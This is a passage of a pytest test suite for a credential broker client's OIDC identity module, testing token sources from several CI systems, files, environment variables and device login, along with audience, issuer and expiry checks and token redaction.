"""cabroker.identity: every source of an ID token, their order, and the checks made before one
is returned, with tokens from the devstack's IdP, GitHub Actions' token endpoint faked over
HTTP, GitLab's variables, and Buildkite's and CircleCI's tools faked on the PATH (all read by
the real ``id`` package).

The audiences are the client's own (:func:`cabroker.config.audiences`): the broker URL's origin,
plus those the user pinned.  The broker's unauthenticated ``/v1/config`` is read only for a
device login or ``--issuer NAME``, and it never chooses which token is asked for or sent: the
"truth table" section below is the security review's list, one named test per line."""

from __future__ import annotations

import io
import json
import os
import shlex
import threading
import time
from collections.abc import Iterator
from dataclasses import dataclass, field
from datetime import UTC, datetime, timedelta
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any
from urllib.parse import parse_qs, urlsplit

import pytest
import requests

from cabroker import api
from cabroker.broker import BrokerClient, BrokerConfig, Grant, Issuer
from cabroker.cache import CacheKey, FileStore, TokenCache
from cabroker.config import Audiences, audiences, is_loopback
from cabroker.errors import IdentityError, UsageError
from cabroker.identity import SOURCES, Identity, Sources, binding, obtain
from cabroker.jwt import unverified_claims
from cabroker.secret import Secret
from devstack.device import PendingRequest
from devstack.idp import IdentityProvider
from tests.support.oidc import LocalIssuer, private_key

BROKER = "https://broker.example.com/prod"
ORIGIN = "https://broker.example.com"  # the audience a CI is asked for, unless one is pinned
GITLAB_VARIABLE = "HTTPS___BROKER_EXAMPLE_COM_ID_TOKEN"  # as id's GitLab detector names it
CLIENT_ID = "cabroker-cli"
CORP_AUDIENCE = "cabroker-corp"  # the device issuer's: accepted only once pinned
REQUEST_TOKEN = "actions-request-token"
HOSTILE = "sts.amazonaws.com"  # another service's audience a spoofed /v1/config may list
VARIABLES = (
    "GITHUB_ACTIONS",
    "ACTIONS_ID_TOKEN_REQUEST_URL",
    "ACTIONS_ID_TOKEN_REQUEST_TOKEN",
    "GITLAB_CI",
    "BUILDKITE",
    "CIRCLECI",
    "GOOGLE_SERVICE_ACCOUNT_NAME",
    "CABROKER_ID_TOKEN",
    "CABROKER_ID_TOKEN_FILE",
    "CABROKER_AUDIENCE",
    "CABROKER_URL",
    "CABROKER_TOKEN_STORE",
    GITLAB_VARIABLE,
    "PYPI_ID_TOKEN",
)


def hints(audience: str = ORIGIN, variable: str = "CABROKER_ID_TOKEN") -> str:
    """How a CI job gets a token for ``audience`` (GitLab: in ``variable``, the one the client
    reads and the README names)."""
    return (
        f"in a CI job, give it an ID token for audience '{audience}': GitHub Actions "
        "`permissions: id-token: write`, GitLab CI "
        f"`id_tokens: {{{variable}: {{aud: {audience}}}}}`; "
        "or pass --id-token-file PATH or set CABROKER_ID_TOKEN"
    )


HINTS = hints()


def wrong_audience(
    where: str, aud: str, accepted: str = f"'{ORIGIN}'", request: str = ORIGIN
) -> str:
    """The refusal of a token whose ``aud`` (as JSON) is not for this broker only."""
    return (
        f"the ID token from {where} is for audience {aud}, not only for this broker "
        f"({accepted}); cabroker sends no token another service would accept. Ask for a token "
        f"with audience {request!r}, or, if your admins use another audience for this broker, "
        "pin it with --audience, CABROKER_AUDIENCE or 'cabroker configure URL --audience AUD'"
    )


class Clock:
    def __init__(self) -> None:
        self.now = float(int(time.time()))

    def __call__(self) -> float:
        return self.now


# ---------------------------------------------------------------------------- fixtures


@pytest.fixture(scope="module")
def shared() -> Iterator[tuple[IdentityProvider, Clock]]:
    clock = Clock()
    with IdentityProvider(key_factory=private_key, clock=clock, device_interval=0).running() as idp:
        yield idp, clock


@pytest.fixture
def device_requests(shared: tuple[IdentityProvider, Clock]) -> list[str]:
    """The issuers a device login was started with (the IdP's device_authorization)."""
    started: list[str] = []

    def hook(name: str, request: PendingRequest) -> None:
        started.append(name)

    shared[0].on_device_request = hook
    return started


@pytest.fixture
def idp(shared: tuple[IdentityProvider, Clock], device_requests: list[str]) -> IdentityProvider:
    """Issuers ``github`` (CI, for the broker's origin), ``corp`` (device login for alice, for
    an audience that must be pinned) and ``other`` (an issuer /v1/config does not list)."""
    idp, clock = shared
    clock.now = float(int(time.time()))
    idp.issuers.clear()
    idp.add("github", ORIGIN)
    idp.add("corp", CORP_AUDIENCE, client_id=CLIENT_ID, users={"alice": {"groups": ["eng"]}})
    idp.add("other", ORIGIN)
    return idp


@pytest.fixture
def github(idp: IdentityProvider) -> LocalIssuer:
    return idp.issuers["github"]


@pytest.fixture
def corp(idp: IdentityProvider) -> LocalIssuer:
    return idp.issuers["corp"]


@pytest.fixture
def other(idp: IdentityProvider) -> LocalIssuer:
    return idp.issuers["other"]


def config_of(*issuers: Issuer) -> BrokerConfig:
    return BrokerConfig(issuers, ("internal",), "acme", "111122223333", "us-east-1", "test")


@pytest.fixture
def config(github: LocalIssuer, corp: LocalIssuer) -> BrokerConfig:
    """As ``/v1/config`` lists them, the IdP with a client_id first."""
    return config_of(
        Issuer("corp", corp.url, CORP_AUDIENCE, CLIENT_ID),
        Issuer("github", github.url, ORIGIN),
    )


def no_config() -> BrokerConfig:
    """A ``load_config`` for what must not need the broker's /v1/config."""
    raise AssertionError("/v1/config was read")


@dataclass
class Env:
    """The environment of the call: ``values`` go to ``obtain(env=…)`` and to os.environ (which
    the ``id`` package reads)."""

    monkeypatch: pytest.MonkeyPatch
    values: dict[str, str] = field(default_factory=dict)

    def set(self, **values: str) -> None:
        for name, value in values.items():
            self.monkeypatch.setenv(name, value)
            self.values[name] = value


def not_on_gce(filename: str) -> Any:
    raise OSError(f"{filename}: not on GCP (test)")


@pytest.fixture(autouse=True)
def env(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> Env:
    """No CI around the tests (even when they run in one), a machine that is not GCE, and a
    user config directory of its own (empty: nothing pinned)."""
    for name in VARIABLES:
        monkeypatch.delenv(name, raising=False)
    monkeypatch.setattr("id._internal.oidc.ambient._open", not_on_gce)
    env = Env(monkeypatch)
    env.set(XDG_CONFIG_HOME=str(tmp_path / "config"), XDG_CACHE_HOME=str(tmp_path / "cache"))
    return env


@pytest.fixture
def secrets() -> list[str]:
    """Every token a test made: none may appear in any output or message."""
    return []


@dataclass
class GitHubTokens:
    """GitHub Actions' ID token endpoint, as the ``id`` package calls it."""

    issuer: LocalIssuer | None = None
    status: int = 200
    claims: dict[str, Any] = field(default_factory=dict)
    refusal: str = "Resource not accessible by integration"
    audiences: list[str] = field(default_factory=list)
    issued: list[str] = field(default_factory=list)

    def answer(self, path: str, authorization: str | None) -> tuple[int, dict[str, Any]]:
        query = parse_qs(urlsplit(path).query)
        audience = query["audience"][0]
        self.audiences.append(audience)
        if authorization != f"bearer {REQUEST_TOKEN}" or query.get("x") != ["1"]:
            return 400, {"message": "bad request token or lost query"}
        if self.status != 200 or self.issuer is None:
            return self.status, {"message": self.refusal}
        token = self.issuer.mint(aud=audience, **self.claims)
        self.issued.append(token)
        return 200, {"count": 1, "value": token}


@pytest.fixture(scope="module")
def github_endpoint() -> Iterator[tuple[GitHubTokens, str]]:
    tokens = GitHubTokens()

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            status, body = tokens.answer(self.path, self.headers.get("Authorization"))
            data = json.dumps(body).encode()
            self.send_response(status)
            self.send_header("Content-Type", "application/json")
            self.send_header("Content-Length", str(len(data)))
            self.end_headers()
            self.wfile.write(data)

        def log_message(self, format: str, *args: Any) -> None:
            pass

    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    thread = threading.Thread(
        target=server.serve_forever, kwargs={"poll_interval": 0.05}, daemon=True
    )
    thread.start()
    try:
        yield tokens, f"http://127.0.0.1:{server.server_port}/token?x=1"
    finally:
        server.shutdown()
        server.server_close()


@pytest.fixture
def github_actions(
    github_endpoint: tuple[GitHubTokens, str], github: LocalIssuer, env: Env, secrets: list[str]
) -> GitHubTokens:
    """A GitHub Actions job with ``permissions: id-token: write``; tokens from ``github``."""
    tokens, url = github_endpoint
    tokens.issuer, tokens.status, tokens.claims = github, 200, {}
    tokens.refusal = "Resource not accessible by integration"
    tokens.audiences, tokens.issued = [], secrets
    env.set(
        GITHUB_ACTIONS="true",
        ACTIONS_ID_TOKEN_REQUEST_URL=url,
        ACTIONS_ID_TOKEN_REQUEST_TOKEN=REQUEST_TOKEN,
    )
    return tokens


class RecordingSession(requests.Session):
    """The device login's HTTP session: every request is recorded; one to a host that is not
    this machine fails as if the network were down (no test reaches the internet)."""

    def __init__(self) -> None:
        super().__init__()
        self.requests: list[tuple[str, str]] = []

    def request(self, method: str, url: Any, *args: Any, **kwargs: Any) -> requests.Response:
        self.requests.append((method, str(url)))
        if not is_loopback(urlsplit(str(url)).hostname):
            raise requests.ConnectionError("no network in the tests")
        return super().request(method, url, *args, **kwargs)


@pytest.fixture
def http() -> Iterator[RecordingSession]:
    with RecordingSession() as session:
        yield session


def shows_no_secret(secrets: list[str], text: str) -> None:
    """No token (not even its signature) in ``text``; a failure names the token's index only."""
    shown = [
        index
        for index, secret in enumerate(secrets)
        if secret in text or secret.rsplit(".", 1)[-1] in text
    ]
    assert not shown, f"tokens {shown} are shown"


@dataclass
class Client:
    """``obtain`` as the CLI calls it, for the broker at BROKER, with the test's clock,
    environment and HTTP session; every answer and every message is checked for tokens.

    Keyword arguments besides obtain's: ``pin`` (the ``--audience`` values), ``config`` (what
    ``/v1/config`` answers; :attr:`config_loads` counts the reads) and ``load_config``."""

    config: BrokerConfig
    env: Env
    secrets: list[str]
    now: float
    idp: IdentityProvider
    http: RecordingSession
    out: str = ""
    config_loads: int = 0

    def approve(self, seconds: float) -> None:
        """The injected sleep of a device login: the first user of the issuer approves it."""
        for issuer in self.idp.issuers.values():
            if issuer.device is not None:
                for pending in issuer.pending():
                    issuer.approve(pending.user_code, next(iter(issuer.users)))

    def audiences(self, pin: tuple[str, ...] = ()) -> Audiences:
        return audiences(BROKER, list(pin), self.env.values)

    def _call(self, kwargs: dict[str, Any]) -> Identity:
        config: BrokerConfig = kwargs.pop("config", self.config)

        def load() -> BrokerConfig:
            self.config_loads += 1
            return config

        stream = io.StringIO()
        try:
            return obtain(
                self.audiences(kwargs.pop("pin", ())),
                kwargs.pop("load_config", load),
                env=self.env.values,
                out=stream,
                http=self.http,
                clock=lambda: self.now,
                sleep=self.approve,
                **{"interactive": False, **kwargs},
            )
        finally:
            self.out = stream.getvalue()

    def get(self, **kwargs: Any) -> Identity:
        named = "issuer" in kwargs
        who = self._call(kwargs)
        assert repr(who.token) == f"<secret: {len(who.token)} characters>"
        shows_no_secret([*self.secrets, who.token], self.out)
        assert who.binding == binding(claims_of(who))
        if who.source != "device" and not named:
            assert self.config_loads == 0, "/v1/config was read for a non-interactive identity"
        return who

    def fail(self, **kwargs: Any) -> str:
        with pytest.raises(IdentityError) as caught:
            self._call(kwargs)
        message = str(caught.value)
        assert caught.value.exit_code == 5
        assert "\n" not in message  # one line
        shows_no_secret(self.secrets, message + self.out)
        return message


@pytest.fixture
def client(
    config: BrokerConfig,
    env: Env,
    secrets: list[str],
    idp: IdentityProvider,
    http: RecordingSession,
) -> Client:
    return Client(config, env, secrets, idp.clock(), idp, http)


def mint(secrets: list[str], issuer: LocalIssuer, **claims: Any) -> str:
    """A token from ``issuer`` (its repr redacted), remembered in ``secrets``."""
    token = issuer.mint(**claims)
    secrets.append(token)
    return token


def claims_of(who: Identity) -> dict[str, Any]:
    return unverified_claims(who.token)


def utc(timestamp: float) -> str:
    return datetime.fromtimestamp(timestamp, UTC).strftime("%Y-%m-%d %H:%M:%S UTC")


def fake_tool(tmp_path: Path, env: Env, name: str, output: str) -> Path:
    """An executable ``name`` first on the PATH that prints ``output``; the file it writes its
    arguments to, one a line."""
    bin_dir = tmp_path / "bin"
    bin_dir.mkdir(exist_ok=True)
    arguments = tmp_path / f"{name}.args"
    tool = bin_dir / name
    tool.write_text(
        f"#!/bin/sh\nprintf '%s\\n' \"$@\" > '{arguments}'\nprintf '%s\\n' '{output}'\n"
    )
    tool.chmod(0o755)
    env.monkeypatch.setenv("PATH", f"{bin_dir}{os.pathsep}{os.environ['PATH']}")
    return arguments


@pytest.fixture
def asked(monkeypatch: pytest.MonkeyPatch) -> list[str]:
    """Every audience the ``id`` package is asked for (by any detector)."""
    import id as ambient_id

    real = ambient_id.detect_credential
    audiences: list[str] = []

    def detect(audience: str) -> str | None:
        audiences.append(audience)
        return real(audience)

    monkeypatch.setattr("id.detect_credential", detect)
    return audiences


# ------------------------------------------------------------------------- ambient (CI)


def test_github_actions(client: Client, github_actions: GitHubTokens, github: LocalIssuer) -> None:
    who = client.get()
    assert (who.source, who.iss, who.where) == ("github-actions", github.url, "GitHub Actions")
    assert who.token == github_actions.issued[0]
    assert claims_of(who)["aud"] == who.audience == ORIGIN
    assert who.expires_at == datetime.fromtimestamp(claims_of(who)["exp"], UTC)
    # the broker URL's origin, not the URL (its path is no part of an audience)
    assert github_actions.audiences == [ORIGIN]


def test_gitlab_ci(client: Client, env: Env, github: LocalIssuer, secrets: list[str]) -> None:
    token = mint(secrets, github)
    env.set(GITLAB_CI="true", **{GITLAB_VARIABLE: token})
    who = client.get()
    assert (who.token, who.source, who.iss) == (token, "gitlab-ci", github.url)


def test_gitlab_ci_reads_the_variable_of_the_pinned_audience(
    client: Client, idp: IdentityProvider, env: Env, secrets: list[str]
) -> None:
    """A pinned audience is the one asked for: its variable is read, the origin's is not."""
    ci = idp.add("ci", "ci-broker")
    token = mint(secrets, ci)
    env.set(GITLAB_CI="true", CI_BROKER_ID_TOKEN=token, **{GITLAB_VARIABLE: mint(secrets, ci)})
    who = client.get(pin=("ci-broker",))
    assert (who.token, who.source, who.iss, who.audience) == (
        token,
        "gitlab-ci",
        ci.url,
        "ci-broker",
    )


@pytest.mark.parametrize(
    ("tool", "variable", "source", "arguments"),
    [
        pytest.param(
            "buildkite-agent",
            "BUILDKITE",
            "buildkite",
            ["oidc", "request-token", "--audience", ORIGIN],
            id="buildkite",
        ),
        pytest.param(
            "circleci",
            "CIRCLECI",
            "circleci",
            ["run", "oidc", "get", "--claims", json.dumps({"aud": ORIGIN}), "--root-issuer"],
            id="circleci",
        ),
    ],
)
def test_ci_tools(
    client: Client,
    env: Env,
    github: LocalIssuer,
    secrets: list[str],
    tmp_path: Path,
    tool: str,
    variable: str,
    source: str,
    arguments: list[str],
) -> None:
    token = mint(secrets, github)
    called = fake_tool(tmp_path, env, tool, token)
    env.set(**{variable: "true"})
    who = client.get()
    assert (who.token, who.source, who.iss) == (token, source, github.url)
    assert called.read_text().splitlines() == arguments  # asked for the broker's audience


def test_a_detector_without_a_variable_is_gcp(
    client: Client, github: LocalIssuer, secrets: list[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    """GCP's detector alone looks at the machine rather than a variable."""
    token = mint(secrets, github)
    asked: list[str] = []

    def detect(audience: str) -> str:
        asked.append(audience)
        return token

    monkeypatch.setattr("id.detect_credential", detect)
    assert client.get().source == "gcp"
    assert asked == [ORIGIN]


def test_ambient_wins_over_file_and_env(
    client: Client, env: Env, github: LocalIssuer, secrets: list[str], tmp_path: Path
) -> None:
    path = tmp_path / "token"
    path.write_text(mint(secrets, github))
    env.set(
        GITLAB_CI="true",
        CABROKER_ID_TOKEN=mint(secrets, github),
        **{GITLAB_VARIABLE: mint(secrets, github)},
    )
    assert client.get(id_token_file=path).source == "gitlab-ci"


@pytest.mark.parametrize("interactive", [False, True], ids=["non-interactive", "interactive"])
def test_github_actions_without_id_token_permission(
    client: Client, env: Env, device_requests: list[str], interactive: bool
) -> None:
    env.set(GITHUB_ACTIONS="true")  # no ACTIONS_ID_TOKEN_REQUEST_*: no `id-token: write`
    message = client.fail(interactive=interactive, pin=(CORP_AUDIENCE,))
    assert message == (
        "GitHub Actions gave no usable ID token: GitHub: missing or insufficient OIDC token "
        "permissions, the ACTIONS_ID_TOKEN_REQUEST_TOKEN environment variable was unset; "
        "give the job `permissions: id-token: write`, or pass --id-token-file PATH"
    )
    assert (client.out, device_requests, client.config_loads) == ("", [], 0)  # no device login


def test_github_actions_token_request_refused(
    client: Client, github_actions: GitHubTokens, github: LocalIssuer, secrets: list[str]
) -> None:
    """id's message (which quotes the answer's body) is shown, without anything like a JWT."""
    github_actions.status = 403
    github_actions.refusal = f"Resource not accessible by integration ({mint(secrets, github)})"
    message = client.fail()
    assert message.startswith("GitHub Actions gave no usable ID token: GitHub: OIDC token ")
    assert "code=403" in message
    assert "Resource not accessible by integration (<redacted>)" in message
    assert message.endswith(
        "give the job `permissions: id-token: write`, or pass --id-token-file PATH"
    )
    assert github_actions.audiences == [ORIGIN]  # one audience, asked once


def test_a_failing_ci_identity_gives_way_to_an_explicit_token(
    client: Client, env: Env, github: LocalIssuer, secrets: list[str]
) -> None:
    env.set(GITHUB_ACTIONS="true", CABROKER_ID_TOKEN=mint(secrets, github))
    who = client.get()
    assert (who.source, who.iss) == ("env", github.url)


def test_gitlab_ci_without_id_tokens(client: Client, env: Env) -> None:
    env.set(GITLAB_CI="true")
    assert client.fail() == (
        f"GitLab CI gave no usable ID token: GitLab: Environment variable {GITLAB_VARIABLE} not "
        f"found; add `id_tokens: {{CABROKER_ID_TOKEN: {{aud: {ORIGIN}}}}}` to the job, "
        "or pass --id-token-file PATH"
    )


def test_gitlab_ci_hints_name_the_pinned_audience(client: Client, env: Env) -> None:
    env.set(GITLAB_CI="true")
    assert client.fail(pin=("ci-broker",)) == (
        "GitLab CI gave no usable ID token: GitLab: Environment variable CI_BROKER_ID_TOKEN not "
        "found; add `id_tokens: {CABROKER_ID_TOKEN: {aud: ci-broker}}` to the job, "
        "or pass --id-token-file PATH"
    )


def test_the_issuer_is_left_to_the_broker(
    client: Client, env: Env, other: LocalIssuer, secrets: list[str]
) -> None:
    """The client no longer checks a token's issuer against /v1/config (the broker verifies
    it, and answers 401): a token for this broker from an issuer /v1/config does not list is
    returned without reading /v1/config."""
    env.set(GITLAB_CI="true", **{GITLAB_VARIABLE: mint(secrets, other)})
    who = client.get()
    assert (who.source, who.iss) == ("gitlab-ci", other.url)


@pytest.mark.parametrize(
    ("issuer", "trusted"),
    [pytest.param("github", True, id="github"), pytest.param("corp", False, id="corp")],
)
def test_the_issuer_restricts_ci_identities(
    client: Client,
    github_actions: GitHubTokens,
    github: LocalIssuer,
    corp: LocalIssuer,
    issuer: str,
    trusted: bool,
) -> None:
    """--issuer NAME reads /v1/config to learn that issuer's URL; the token must be its."""
    if trusted:
        assert client.get(issuer=issuer).iss == github.url
    else:
        assert client.fail(issuer=issuer) == (
            f"the ID token from GitHub Actions was issued by {github.url}, not by issuer corp "
            f"({corp.url}) as --issuer asks"
        )
    assert github_actions.audiences == [ORIGIN]
    assert client.config_loads == 1


# --------------------------------------------------------------------------- file and env


@pytest.mark.parametrize("where", ["argument", "CABROKER_ID_TOKEN_FILE", "CABROKER_ID_TOKEN"])
def test_file_and_env(
    client: Client,
    env: Env,
    github: LocalIssuer,
    secrets: list[str],
    tmp_path: Path,
    where: str,
) -> None:
    token = mint(secrets, github)
    path = tmp_path / "id-token"
    path.write_text(f"{token}\n")
    if where == "argument":
        who = client.get(id_token_file=path)
    elif where == "CABROKER_ID_TOKEN_FILE":
        env.set(CABROKER_ID_TOKEN_FILE=str(path))
        who = client.get()
    else:
        env.set(CABROKER_ID_TOKEN=token)
        who = client.get()
    assert (who.token, who.iss, who.audience) == (token, github.url, ORIGIN)
    assert who.source == ("env" if where == "CABROKER_ID_TOKEN" else "file")
    assert who.where == ("CABROKER_ID_TOKEN" if where == "CABROKER_ID_TOKEN" else str(path))
    assert who.expires_at == datetime.fromtimestamp(client.now + 300, UTC)


def test_the_file_argument_wins_over_the_variables(
    client: Client,
    env: Env,
    github: LocalIssuer,
    other: LocalIssuer,
    secrets: list[str],
    tmp_path: Path,
) -> None:
    path, other_path = tmp_path / "token", tmp_path / "other"
    path.write_text(mint(secrets, other))
    other_path.write_text(mint(secrets, github))
    env.set(CABROKER_ID_TOKEN=mint(secrets, github), CABROKER_ID_TOKEN_FILE=str(other_path))
    who = client.get(id_token_file=path)
    assert (who.source, who.iss) == ("file", other.url)


def test_both_variables_is_ambiguous(
    client: Client, env: Env, github: LocalIssuer, secrets: list[str], tmp_path: Path
) -> None:
    path = tmp_path / "token"
    path.write_text(mint(secrets, github))
    env.set(CABROKER_ID_TOKEN=mint(secrets, github), CABROKER_ID_TOKEN_FILE=str(path))
    assert client.fail() == (
        "both CABROKER_ID_TOKEN and CABROKER_ID_TOKEN_FILE are set: unset one of them"
    )


def test_a_token_for_another_audience(
    client: Client, env: Env, github: LocalIssuer, secrets: list[str]
) -> None:
    env.set(CABROKER_ID_TOKEN=mint(secrets, github, aud=["sigstore", "pypi"]))
    assert client.fail() == wrong_audience("CABROKER_ID_TOKEN", '["sigstore", "pypi"]')


def test_a_pinned_audience_is_accepted_beside_the_origin(
    client: Client, env: Env, github: LocalIssuer, secrets: list[str]
) -> None:
    env.set(CABROKER_ID_TOKEN=mint(secrets, github, aud=[ORIGIN, CORP_AUDIENCE]))
    assert client.get(pin=(CORP_AUDIENCE,)).audience == ORIGIN
    env.set(CABROKER_ID_TOKEN=mint(secrets, github, aud=CORP_AUDIENCE))
    assert client.get(pin=(CORP_AUDIENCE,)).audience == CORP_AUDIENCE
    assert client.fail() == wrong_audience("CABROKER_ID_TOKEN", f'"{CORP_AUDIENCE}"')


def test_the_issuer_restricts_file_and_env(
    client: Client, env: Env, github: LocalIssuer, corp: LocalIssuer, secrets: list[str]
) -> None:
    env.set(CABROKER_ID_TOKEN=mint(secrets, github))
    assert client.get(issuer="github").iss == github.url
    assert client.fail(issuer="corp") == (
        f"the ID token from CABROKER_ID_TOKEN was issued by {github.url}, not by issuer corp "
        f"({corp.url}) as --issuer asks"
    )


@pytest.mark.parametrize("interactive", [False, True], ids=["env token", "device login"])
def test_an_unknown_issuer_name(
    client: Client, env: Env, github: LocalIssuer, secrets: list[str], interactive: bool
) -> None:
    if not interactive:
        env.set(CABROKER_ID_TOKEN=mint(secrets, github))
    assert client.fail(issuer="gihtub", interactive=interactive, pin=(CORP_AUDIENCE,)) == (
        "the broker has no issuer named 'gihtub'; its issuers: corp, github"
    )
    assert client.http.requests == []


NOT_JWTS = [
    pytest.param("hello", id="a word"),
    pytest.param("aaaa.bbbb.cccc", id="three parts that are not base64 JSON"),
    pytest.param("eyJhbGciOiJub25lIn0.WzFd.", id="a payload that is not an object"),
    pytest.param("Bearer x.y.z", id="a header value"),
]


@pytest.mark.parametrize("text", NOT_JWTS)
def test_not_a_jwt_in_the_variable(client: Client, env: Env, text: str) -> None:
    env.set(CABROKER_ID_TOKEN=text)
    assert client.fail() == (
        "CABROKER_ID_TOKEN does not hold a JWT (an OIDC ID token: three base64url parts "
        "separated by dots)"
    )


@pytest.mark.parametrize("text", NOT_JWTS)
def test_not_a_jwt_in_the_file(client: Client, tmp_path: Path, text: str) -> None:
    path = tmp_path / "token"
    path.write_text(text)
    assert client.fail(id_token_file=path).startswith(f"the file {path} does not hold a JWT")


@pytest.mark.parametrize(
    ("content", "message"),
    [
        pytest.param(
            b"", "the ID token file {path} is empty: write an OIDC ID token to it", id="empty"
        ),
        pytest.param(b"\xff\xfe\x00", "the ID token file {path} does not hold a JWT", id="binary"),
        pytest.param(
            b"a" * 70_000,
            "the ID token file {path} does not hold a JWT (it is too big)",
            id="too big",
        ),
    ],
)
def test_a_file_that_cannot_hold_a_token(
    client: Client, tmp_path: Path, content: bytes, message: str
) -> None:
    path = tmp_path / "token"
    path.write_bytes(content)
    assert client.fail(id_token_file=path) == message.format(path=path)


def test_a_token_without_issuer(
    client: Client, env: Env, github: LocalIssuer, secrets: list[str]
) -> None:
    env.set(CABROKER_ID_TOKEN=mint(secrets, github, iss=None))
    assert client.fail() == "the ID token from CABROKER_ID_TOKEN has no issuer (no 'iss' claim)"


@pytest.mark.parametrize(
    ("name", "reason"),
    [("missing", "No such file or directory"), (".", "Is a directory")],
    ids=["missing", "a directory"],
)
def test_an_unreadable_file(client: Client, tmp_path: Path, name: str, reason: str) -> None:
    path = tmp_path / name
    assert client.fail(id_token_file=path) == f"cannot read the ID token file {path}: {reason}"


# ----------------------------------------------------------------------------- expiry


@pytest.mark.parametrize(
    ("source", "where", "fix"),
    [
        pytest.param(
            "github-actions",
            "GitHub Actions",
            "run the step again (and check this machine's clock)",
            id="github-actions",
        ),
        pytest.param(
            "gitlab-ci",
            "GitLab CI",
            "GitLab mints id_tokens when the job starts: run the job again, or run cabroker "
            "earlier in it",
            id="gitlab-ci",
        ),
        pytest.param("file", "the file {path}", "write a fresh one to {path}", id="file"),
        pytest.param("env", "CABROKER_ID_TOKEN", "set CABROKER_ID_TOKEN to a fresh one", id="env"),
        pytest.param(
            "device",
            "the login to corp",
            "run the command again (and check this machine's clock)",
            id="device",
        ),
    ],
)
def test_an_expired_token_is_refused(
    client: Client,
    env: Env,
    github_endpoint: tuple[GitHubTokens, str],
    github: LocalIssuer,
    idp: IdentityProvider,
    secrets: list[str],
    tmp_path: Path,
    source: str,
    where: str,
    fix: str,
) -> None:
    """Issued 390 s ago with the IdP's 300 s lifetime: expired 90 s ago."""
    expired = {
        "iat": int(client.now) - 390,
        "nbf": int(client.now) - 390,
        "exp": int(client.now) - 90,
    }
    path = tmp_path / "token"
    kwargs: dict[str, Any] = {}
    if source == "github-actions":
        tokens, url = github_endpoint
        tokens.issuer, tokens.status, tokens.claims, tokens.issued = github, 200, expired, secrets
        tokens.audiences = []
        env.set(
            GITHUB_ACTIONS="true",
            ACTIONS_ID_TOKEN_REQUEST_URL=url,
            ACTIONS_ID_TOKEN_REQUEST_TOKEN=REQUEST_TOKEN,
        )
    elif source == "gitlab-ci":
        env.set(GITLAB_CI="true", **{GITLAB_VARIABLE: mint(secrets, github, **expired)})
    elif source == "file":
        path.write_text(mint(secrets, github, **expired))
        kwargs["id_token_file"] = path
    elif source == "env":
        env.set(CABROKER_ID_TOKEN=mint(secrets, github, **expired))
    else:
        shared_clock = idp.clock
        assert isinstance(shared_clock, Clock)
        shared_clock.now = client.now - 390  # the IdP signs as if 390 s ago
        kwargs.update(interactive=True, pin=(CORP_AUDIENCE,))
    message = client.fail(**kwargs)
    assert message == (
        f"the identity token from {where.format(path=path)} expired at {utc(client.now - 90)} "
        f"(90 s ago); get a fresh one: {fix.format(path=path)}"
    )


def test_a_token_that_expires_later_is_fine(
    client: Client, env: Env, github: LocalIssuer, secrets: list[str]
) -> None:
    env.set(CABROKER_ID_TOKEN=mint(secrets, github, exp=int(client.now) + 1))
    assert client.get().expires_at == datetime.fromtimestamp(client.now + 1, UTC)


def test_a_token_that_expires_now_is_expired(
    client: Client, env: Env, github: LocalIssuer, secrets: list[str]
) -> None:
    env.set(CABROKER_ID_TOKEN=mint(secrets, github, exp=int(client.now)))
    assert "(0 s ago)" in client.fail()


def test_a_token_without_expiry_is_left_to_the_broker(
    client: Client, env: Env, github: LocalIssuer, secrets: list[str]
) -> None:
    env.set(CABROKER_ID_TOKEN=mint(secrets, github, exp=None))
    assert client.get().expires_at is None


# ---------------------------------------------------------------- device, and nothing


def test_nothing_found_without_a_terminal_fails_fast(
    client: Client, device_requests: list[str]
) -> None:
    assert client.fail(pin=(CORP_AUDIENCE,)) == (
        "no identity found: no CI identity (GitHub Actions, GCP, Buildkite, GitLab CI, "
        "CircleCI), no --id-token-file, CABROKER_ID_TOKEN or CABROKER_ID_TOKEN_FILE, and "
        "interactive login is off (no terminal, or --non-interactive); " + hints(CORP_AUDIENCE)
    )
    assert (client.out, device_requests, client.http.requests, client.config_loads) == (
        "",
        [],
        [],
        0,
    )


def test_nothing_found_names_the_origin_when_nothing_is_pinned(client: Client) -> None:
    assert client.fail().endswith(HINTS)


def test_nothing_found_logs_in_interactively(client: Client, corp: LocalIssuer) -> None:
    who = client.get(interactive=True, pin=(CORP_AUDIENCE,))
    assert (who.source, who.iss, who.where, who.audience) == (
        "device",
        corp.url,
        "corp",
        CORP_AUDIENCE,
    )
    assert (claims_of(who)["sub"], claims_of(who)["groups"]) == ("alice", ["eng"])
    assert who.expires_at == datetime.fromtimestamp(client.now + 300, UTC)
    assert "/corp/device?user_code=" in client.out
    assert client.config_loads == 1
    assert all(url.startswith(corp.url) for _, url in client.http.requests)


def test_a_device_issuer_for_the_brokers_origin_needs_no_pin(
    client: Client, idp: IdentityProvider
) -> None:
    sso = idp.add("sso", ORIGIN, client_id=CLIENT_ID, users={"bob": {}})
    config = config_of(Issuer("sso", sso.url, ORIGIN, CLIENT_ID))
    who = client.get(config=config, interactive=True)
    assert (who.source, who.iss, who.audience) == ("device", sso.url, ORIGIN)


def test_a_named_device_source_logs_in_without_a_terminal(client: Client) -> None:
    assert client.get(source="device", interactive=False, pin=(CORP_AUDIENCE,)).source == "device"


@pytest.mark.parametrize("listed", ["github", "none"])
def test_interactive_but_the_broker_offers_no_login(
    client: Client, github: LocalIssuer, listed: str
) -> None:
    issuers = [Issuer("github", github.url, ORIGIN)] if listed == "github" else []
    message = client.fail(config=config_of(*issuers), interactive=True)
    assert message == (
        "the broker offers no interactive login (none of its issuers has a client_id); "
        "use a CI identity or pass --id-token-file PATH"
    )


def test_interactive_but_the_named_issuer_offers_no_login(
    client: Client, corp: LocalIssuer, device_requests: list[str]
) -> None:
    message = client.fail(interactive=True, issuer="github")
    assert message == (
        "issuer 'github' offers no interactive login (the broker has no client_id for it); "
        "interactive login works with: corp"
    )
    assert (corp.pending(), device_requests) == ([], [])


def test_interactive_with_several_issuers_to_log_in_to(
    client: Client, idp: IdentityProvider, corp: LocalIssuer
) -> None:
    okta = idp.add("okta", CORP_AUDIENCE, client_id=CLIENT_ID, users={"bob": {}})
    config = config_of(*client.config.issuers, Issuer("okta", okta.url, CORP_AUDIENCE, CLIENT_ID))
    assert client.fail(config=config, interactive=True, pin=(CORP_AUDIENCE,)) == (
